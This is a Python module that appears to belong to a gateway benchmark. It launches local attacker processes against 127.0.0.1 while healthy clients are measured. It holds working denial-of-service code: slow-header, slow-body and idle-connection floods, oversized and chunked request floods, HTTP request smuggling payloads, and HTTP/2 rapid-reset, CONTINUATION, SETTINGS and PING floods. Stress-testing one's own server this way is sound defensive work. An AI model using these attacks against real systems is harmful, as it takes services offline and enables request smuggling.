"""Attackers, each a process of its own beside healthy clients: what a client can do to a server with few means.

Each holds what others need (connections, time) or makes work as fast as it can. They run on the core of the load and at the
lowest priority there, so that what they cost shows at the gateway and not at those who measure it.
"""
import contextlib
import multiprocessing
import os
import socket
import time

SLOW_CLIENTS, IDLE_CLIENTS = 1_000, 10_000
POST = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
HIDDEN = b"GET /health/live HTTP/1.1\r\nHost: hidden\r\n\r\n"
# What two readers could read in two ways.
SMUGGLED = [
    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    POST + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!" + HIDDEN,
    POST + b"Content-Length : 5\r\n\r\nhello" + HIDDEN,
    POST + b"X-A: a\rContent-Length: 5\r\n\r\nhello" + HIDDEN,
]


def connected(port):
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def again_and_again(port, data):
    """A connection, what it sends, and the next one."""
    while True:
        with contextlib.suppress(OSError), connected(port) as wire:
            wire.sendall(data)
            while wire.recv(65536):
                pass


def held(port, count, first, more, pause_s):
    """So many connections that send a little from time to time. Who is let go comes again."""
    wires = []
    while True:
        while len(wires) < count:
            try:
                wires.append(connected(port))
                wires[-1].sendall(first)
            except OSError:
                break
        time.sleep(pause_s)
        left = []
        for wire in wires:
            try:
                if more:
                    wire.sendall(more)
                left.append(wire)
            except OSError:
                wire.close()
        wires = left


def idle(port, _):
    held(port, IDLE_CLIENTS, b"", b"", 1)


def slow_heads(port, _):
    held(port, SLOW_CLIENTS, POST + b"X-A: ", b"a", 0.2)


def slow_bodies(port, key):
    held(port, SLOW_CLIENTS, POST + key + b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", b" ", 0.2)


def huge_heads(port, _):
    again_and_again(port, POST + b"X-A: " + b"a" * 100_000)


def many_fields(port, _):
    again_and_again(port, POST + b"a: b\r\n" * 10_000)


def one_byte_chunks(port, key):
    again_and_again(port, POST + key + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")


def chunk_extensions(port, key):
    again_and_again(port, POST + key + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1;" + b"x" * 100_000)


def smuggling(port, _):
    while True:
        for data in SMUGGLED:
            with contextlib.suppress(OSError), connected(port) as wire:
                wire.sendall(data)
                while wire.recv(65536):
                    pass


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(*pairs):
    """A block of header fields as literals: names and values below 127 bytes."""
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in pairs)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
GET = fields((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/v1/models"), (b":authority", b"x"))
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9


def rapid_reset(port, _):
    again_and_again(port, PREFACE + b"".join(frame(HEADERS, 5, stream, GET) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(1, 4001, 2)))


def continuations(port, _):
    again_and_again(port, PREFACE + frame(HEADERS, 1, 1, GET) + frame(CONTINUATION, 0, 1, fields((b"x", b"y" * 100))) * 2000)


def settings_flood(port, _):
    again_and_again(port, PREFACE + frame(SETTINGS, 0, 0) * 5000)


def ping_flood(port, _):
    again_and_again(port, PREFACE + frame(PING, 0, 0, b"12345678") * 5000)


ATTACKS = (slow_heads, slow_bodies, idle, huge_heads, many_fields, one_byte_chunks, chunk_extensions, smuggling, rapid_reset, continuations,
           settings_flood, ping_flood)


def attacker(attack, core, port, key):
    os.sched_setaffinity(0, {core})
    os.nice(19)
    attack(port, key)


@contextlib.contextmanager
def under(attack, core, port, key):
    """The attack goes on while this is open. `key` is the line of the head that lets a client in."""
    process = multiprocessing.get_context("fork").Process(target=attacker, args=(attack, core, port, key), daemon=True)
    process.start()
    try:
        yield
        if not process.is_alive():
            raise SystemExit(f"bench: the attack {attack.__name__} ended by itself")
    finally:
        process.kill()
        process.join()
